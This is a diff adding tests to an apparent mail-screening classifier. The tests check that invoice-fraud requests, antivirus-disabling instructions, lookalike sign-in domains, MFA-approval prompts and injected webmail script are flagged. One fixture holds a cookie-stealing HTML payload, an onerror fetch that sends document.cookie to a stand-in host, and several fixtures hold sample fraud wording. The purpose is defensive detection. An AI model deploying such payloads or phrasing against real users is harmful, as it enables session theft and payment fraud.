@@ -122,6 +122,13 @@ test('orders to an assistant in text that nobody sees are a sign, whoever sends 
   assert.deepEqual(await judged({ ...inside, text: '議事録です。', hidden_orders }), ['high task'])
 })
 
+test('code that a webmail may run is a sign, whoever sends it: a stranger, a list, a partner, a colleague', async () => {
+  const html_script = "onerror=fetch('https://c.example/'+document.cookie)"
+  const list = { from: 'News <n@news.example>', list_id: 'digest.news.example' }
+  for (const mail of [{ from: 'News <n@news.example>' }, list, partner, inside])
+    assert.deepEqual(await judged({ ...mail, text: '本日の記事です。', html_script }), ['high script'])
+})
+
 test("the office's account is wanted at a page of nobody's that wears our name or is called like a place for papers; a course at a school's own site wants it honestly", async () => {
   const text = '支給基準（案）を共有します。閲覧には職場のメールアドレスでのサインインが必要です。'
   const at = (host: string) => ({ ...inside, text, links: [{ url: `https://${host}/s/login` }] })
@@ -164,3 +171,51 @@ test('a blackmailer who forges our own address is none of ours', async () => {
   assert.deepEqual(await judged({ ...inside, text: warning }), [])
 })
 const FROM_OUTSIDE = { ip: '183.58.64.77', by: `mx.${OURS}`, protocol: 'SMTP' }
+
+test('a partner who paid twice and wants it back elsewhere is a sign; back to where it came from is none', async () => {
+  const text = '請求書を二重に振り込んでおりました。下記口座へご返金をお願いいたします。'
+  const account = '北銀行 普通 1234567'
+  assert.deepEqual(await judged({ ...partner, text: `${text}振込元の口座は解約いたしました。${account}` }), [
+    'medium money',
+  ])
+  const back = '請求書を二重に振り込んでおりました。振込元の口座へご返金をお願いいたします。'
+  assert.deepEqual(await judged({ ...partner, text: `${back}${account}` }), [])
+})
+
+test("a partner's attached bill with a new account, as the usual one is audited and takes nothing, is a sign; a bill alone is none", async () => {
+  const attachments = [{ name: 'invoice.pdf', type: 'pdf' }]
+  const bill = 'The corrected invoice with the new account is attached.'
+  const barred = 'The tax office is inspecting our bank account, which cannot take payments from abroad.'
+  assert.deepEqual(await judged({ ...partner, text: `${barred} ${bill}`, attachments }), ['medium money'])
+  assert.deepEqual(await judged({ ...partner, text: 'The corrected invoice is attached.', attachments }), [])
+})
+
+test("a partner's password mail that has the virus scanner stopped is a sign; a program's manual, and a note without it, are none", async () => {
+  const stop = '開けない場合は、ウイルス対策ソフトをいったん止めてからお試しください。'
+  assert.deepEqual(await judged({ ...partner, text: `先ほどのファイルのパスワードは abc12345 です。${stop}` }), [
+    'medium worded-malware',
+  ])
+  assert.deepEqual(await judged({ ...partner, text: '先ほどのファイルのパスワードは abc12345 です。' }), [])
+  const setUp = 'インストールできない場合は、ウイルス対策ソフトをいったん止めてからお試しください。'
+  assert.deepEqual(await judged({ ...partner, text: setUp }), [])
+})
+
+test("a page under another's domain that wears the sender's name, where a prompt is to be approved, is a sign; a client room called by the name alone is none", async () => {
+  const at = (host: string, text: string) => ({ ...partner, text, links: [{ url: `https://${host}/a` }] })
+  for (const text of [
+    'サインイン後、スマートフォンに出る確認の通知を承認してください。',
+    'Please approve the prompt on your phone as soon as it appears.',
+    'Bitte bestätigen Sie danach die Abfrage auf Ihrem Telefon, damit wir es haben.',
+    'Veuillez valider la demande sur votre téléphone pour ouvrir le document.',
+    'Proszę zatwierdzić powiadomienie w telefonie, aby otworzyć dokument.',
+  ]) {
+    assert.deepEqual(await judged(at('data-torihiki.akten.example', text)), ['medium account'], text)
+    assert.deepEqual(await judged(at('torihiki.akten.example', text)), [], text)
+  }
+  const opened = '事務局のアドレスとパスワードで開けます。'
+  assert.deepEqual(
+    await judged({ ...inside, text: opened, links: [{ url: 'https://kobogiken-my.sharepoint-view.com/a' }] }),
+    ['medium account'],
+  )
+  assert.deepEqual(await judged(at('data-torihiki.akten.example', '図面を置きました。ご確認ください。')), [])
+})
